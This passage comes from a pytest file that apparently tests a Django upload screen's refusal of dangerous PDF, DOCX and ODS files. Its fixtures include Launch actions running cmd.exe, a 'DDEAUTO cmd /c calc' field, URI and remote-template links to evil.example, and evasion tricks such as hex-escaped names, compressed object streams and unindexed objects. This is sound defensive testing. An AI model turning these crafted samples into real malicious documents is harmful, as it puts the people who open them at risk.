    page_opened = pdf_writer()
    page_opened.pages[0][NameObject("/AA")] = pdf_value({"/O": {"/S": "/URI", "/URI": "https://evil.example/"}})
    assert_refused("statuts.pdf", written(page_opened), "pdf_uri_action", "(URI)")


def test_pdf_embedded_files_are_refused():
    writer = pdf_writer()
    writer.add_attachment("facture.exe", b"MZ\x90\x00")
    assert_refused("statuts.pdf", written(writer), "pdf_embedded_file", "Ce PDF contient des fichiers incorporés")

    annotated = pdf_writer()
    annotated.add_annotation(0, pdf_value({"/Type": "/Annot", "/Subtype": "/FileAttachment", "/Rect": [0, 0, 10, 10], "/FS": {"/Type": "/Filespec", "/F": "a.txt"}}))  # fmt: skip
    assert_refused("statuts.pdf", written(annotated), "pdf_embedded_file", "pièces jointes")


def test_pdf_xfa_forms_are_refused():
    from pypdf.generic import NameObject

    writer = pdf_writer()
    writer._root_object[NameObject("/AcroForm")] = pdf_value({"/Fields": [], "/XFA": "<xdp:xdp/>"})
    assert_refused("statuts.pdf", written(writer), "pdf_xfa", "Ce PDF contient un formulaire dynamique XFA")


CATALOG_AND_PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


@pytest.mark.parametrize(
    "open_action, code",
    [
        (b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", "pdf_javascript"),
        (b"<< /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>", "pdf_launch"),
        (b"<< /S /#55RI /URI (https://evil.example/) >>", "pdf_uri_action"),
        (b"<< /S /Sub#6DitForm /F (https://evil.example/) >>", "pdf_submit_form"),
        (b"<< /S /GoTo#52 /F (x.pdf) /D [0 /Fit] >>", "pdf_remote_file"),
    ],
    ids=["/J#61vaScript", "fully escaped /Launch", "/#55RI", "/Sub#6DitForm", "/GoTo#52"],
)
def test_escaped_pdf_names_are_judged_decoded(open_action, code):
    content = assemble_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + open_action + b" >>", *CATALOG_AND_PAGES])
    assert_refused("statuts.pdf", content, code)


def test_an_escaped_embedded_files_tree_is_refused():
    content = assemble_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >> >>", *CATALOG_AND_PAGES, b"<< /Type /Filespec /F (a.exe) >>"]
    )  # fmt: skip
    assert_refused("statuts.pdf", content, "pdf_embedded_file")


def pdf_with_object_stream(plain: dict[int, bytes], packed: dict[int, bytes]) -> bytes:
    """A PDF 1.5 whose ``packed`` objects sit in a compressed object stream, indexed by a
    cross-reference stream: nothing of them is visible in the raw bytes."""
    numbers = sorted(packed)
    bodies = [packed[number] for number in numbers]
    offsets, position = [], 0
    for body in bodies:
        offsets.append(position)
        position += len(body) + 1
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in zip(numbers, offsets, strict=True)) + b"\n"
    stream = zlib.compress(header + b"\n".join(bodies) + b"\n")
    stream_number = max([*plain, *packed]) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets_by_number = {}
    objects = dict(plain)
    objects[stream_number] = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(numbers), len(header), len(stream))
        + stream
        + b"\nendstream"
    )
    for number in sorted(objects):
        offsets_by_number[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_offset = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(b"\x02" + struct.pack(">IH", stream_number, numbers.index(number)))
        elif number == xref_number:
            rows.append(b"\x01" + struct.pack(">IH", xref_offset, 0))
        else:
            rows.append(b"\x01" + struct.pack(">IH", offsets_by_number[number], 0))
    data = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(data))
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)


def test_actions_inside_compressed_object_streams_are_refused():
    pages = {2: CATALOG_AND_PAGES[0], 3: CATALOG_AND_PAGES[1]}
    launch = pdf_with_object_stream(
        {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **pages},
        {4: b"<< /Type /Action /S /Launch /F (cmd.exe) >>", 5: b"<< /Producer (x) >>"},
    )
    assert b"Launch" not in launch
    assert_refused("statuts.pdf", launch, "pdf_launch", "(Launch)")
    # Referenced from nowhere: a reader that rebuilds the cross-references could still find it.
    orphan = pdf_with_object_stream(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", **pages}, {4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}
    )
    assert_refused("statuts.pdf", orphan, "pdf_javascript")
    clean = pdf_with_object_stream(
        {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **pages}, {4: b"[3 0 R /Fit]"}
    )
    assert upload("statuts.pdf", clean).kind == "pdf"


def pdf_with_unindexed(objects: list[bytes], unindexed: bytes) -> bytes:
    """``objects`` numbered from 1 and indexed; ``unindexed`` written in the body, pointed to by no
    cross-reference entry (a duplicate number shadows nothing for pypdf, but a reader that rebuilds
    the table takes the last definition)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += unindexed + b"\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_object_definitions_the_cross_references_do_not_index_are_judged_too():
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        *CATALOG_AND_PAGES,
        b"<< /S /GoTo /D [3 0 R /Fit] >>",
    ]
    shadowing = pdf_with_unindexed(objects, b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj")
    assert upload("statuts.pdf", pdf_with_unindexed(objects, b"")).kind == "pdf"
    assert_refused("statuts.pdf", shadowing, "pdf_launch", "(Launch)")
    orphan = pdf_with_unindexed(
        objects, b"9 0 obj\n<< /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>\nendobj"
    )
    assert_refused("statuts.pdf", orphan, "pdf_javascript")


def test_an_encrypted_pdf_is_judged_on_its_decrypted_objects():
    writer = pdf_writer()
    from pypdf.generic import NameObject

    writer._root_object[NameObject("/OpenAction")] = writer._add_object(pdf_value({"/S": "/Launch", "/F": "cmd.exe"}))
    writer.encrypt(user_password="", owner_password="proprietaire", algorithm="AES-256")
    assert_refused("rib.pdf", written(writer), "pdf_launch", "(Launch)")


def test_pdf_object_nesting_beyond_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_rules, "MAX_PDF_DEPTH", 3)
    nested = pdf_value({"/A": {"/B": {"/C": {"/D": {"/E": 1}}}}})
    from pypdf.generic import NameObject

    writer = pdf_writer()
    writer._root_object[NameObject("/Deep")] = nested
    assert_refused("statuts.pdf", written(writer), "too_complex", "trop complexe")


# --------------------------------------------------------------------------------------------
# Through the carrier's upload screen: refused with the message, nothing stored
# --------------------------------------------------------------------------------------------
def screen_samples():
    return [
        ("rapport.docx", ["docx"], docx(body=field([" DD", "EAUTO cmd /c calc"])), "champs ou des liaisons DDE"),
        ("rapport.docx", ["docx"], settings_rels(f"<Relationship Id='r' Type='{R}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>"), "modèle distant"),
        ("budget.ods", ["ods"], odf(ODS, extra={"Scripts/python/run.py": "import os"}), "contient des macros"),
        ("statuts.pdf", ["pdf"], pdf_opening_with({"/S": "/URI", "/URI": "https://evil.example/"}), "adresse internet"),
    ]  # fmt: skip


@pytest.mark.django_db
def test_refused_files_are_explained_on_the_upload_screen_and_nothing_is_stored(client, ami_call):
    carrier, application = carrier_with_draft(ami_call)
    client.force_login(carrier)
    document = ami_call.required_documents.get(position=1)
    url = reverse("applications:upload", kwargs={"public_id": application.public_id, "document_id": document.pk})
    for name, accepted, content, words in screen_samples():
        document.accepted_types = accepted
        document.save()
        response = client.post(url, {f"doc{document.pk}-file": SimpleUploadedFile(name, content)})
        html = response.content.decode().replace("&#x27;", "'")
        assert response.status_code == 200 and words in html, name
    assert not Attachment.objects.exists()
    root = Path(settings.MEDIA_ROOT)
    assert not root.exists() or not [path for path in root.rglob("*") if path.is_file()]
